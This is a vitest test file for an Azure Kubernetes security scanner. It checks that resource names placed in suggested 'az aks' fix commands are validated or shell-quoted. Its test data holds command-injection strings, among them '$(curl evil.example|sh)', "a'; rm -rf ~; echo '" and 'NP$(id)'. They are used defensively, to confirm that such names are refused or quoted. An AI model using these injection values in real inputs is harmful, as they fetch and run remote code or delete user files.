import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { remediationFor } from '../../src/engine/remediation.js';
import type { Rule } from '../../src/model/rule.js';
import { aksNameProblem, shellQuote } from '../../src/model/shell-command.js';
import { RULES } from '../../src/rules/index.js';

const rule = (id: string): Rule => RULES.find((r) => r.meta.id === id) as Rule;
const LOCAL_ACCOUNTS = rule('identity/local-accounts-enabled');
const TARGET = (group: string) =>
  `/subscriptions/s/resourceGroups/${group}/providers/Microsoft.ContainerService/managedClusters/c`;
const CLUSTER = { kind: 'ManagedCluster', name: 'c', namespace: null };

describe('names in suggested commands', () => {
  it('a valid name goes in as it is', () => {
    expect(remediationFor(LOCAL_ACCOUNTS, 'prod-weu', TARGET('rg-prod'), CLUSTER)).toMatch(
      /^az aks update -g rg-prod -n prod-weu --disable-local-accounts/,
    );
  });

  it('a resource group name Azure allows but a shell reads (parentheses) is quoted', () => {
    expect(remediationFor(LOCAL_ACCOUNTS, 'prod', TARGET('rg(prod)'), CLUSTER)).toMatch(
      /^az aks update -g 'rg\(prod\)' -n prod /,
    );
  });

  it.each([
    ['$(curl evil.example|sh)'],
    ['`touch /tmp/pwned`'],
    ["a'; rm -rf ~; echo '"],
    ['-rf'],
    ['x'.repeat(64)],
    ['name\nwith newline'],
  ])('a cluster name that is not an AKS name stays a placeholder, flagged: %j', (name) => {
    const fix = remediationFor(LOCAL_ACCOUNTS, name, TARGET('rg'), CLUSTER);
    expect(fix.split('\n')[0]).toBe('az aks update -g rg -n <cluster> --disable-local-accounts');
    expect(fix).toContain('(the cluster name is not a valid AKS cluster name (1–63 letters, digits, - or _');
    expect(fix).toContain('fill in <cluster> yourself)');
    expect(fix).not.toContain(name);
  });

  it('pool names follow the pool rules', () => {
    const pool = rule('node-access/node-public-ip');
    const fix = (name: string) =>
      remediationFor(pool, 'prod', TARGET('rg'), { kind: 'AgentPool', name, namespace: null });
    expect(fix('np1')).toContain('az aks nodepool delete -n np1');
    expect(fix('NP$(id)')).toContain('az aks nodepool delete -n <pool>');
    expect(fix('NP$(id)')).toContain('(the pool name is not a valid AKS pool name');
    expect(aksNameProblem('pool', 'np1')).toBeUndefined();
    expect(aksNameProblem('pool', 'toolongpoolname')).toMatch(/not a valid AKS pool name/);
    expect(aksNameProblem('pool', 'Upper')).toMatch(/not a valid AKS pool name/);
    expect(aksNameProblem('resource group', 'rg.')).toMatch(/not ending in \./);
    expect(aksNameProblem('resource group', 'Ressourcengruppe-ü')).toBeUndefined();
  });

  it('POSIX single quotes: what the shell sees is exactly the value, and nothing runs', () => {
    for (const value of ["it's", '$(echo pwned)', '`id`', 'a b\tc', "''", '!x', '*']) {
      const echoed = execFileSync('/bin/sh', ['-c', `printf %s ${shellQuote(value)}`], { encoding: 'utf8' });
      expect(echoed).toBe(value);
    }
    expect(shellQuote('plain-name_1.2')).toBe('plain-name_1.2');
  });
});
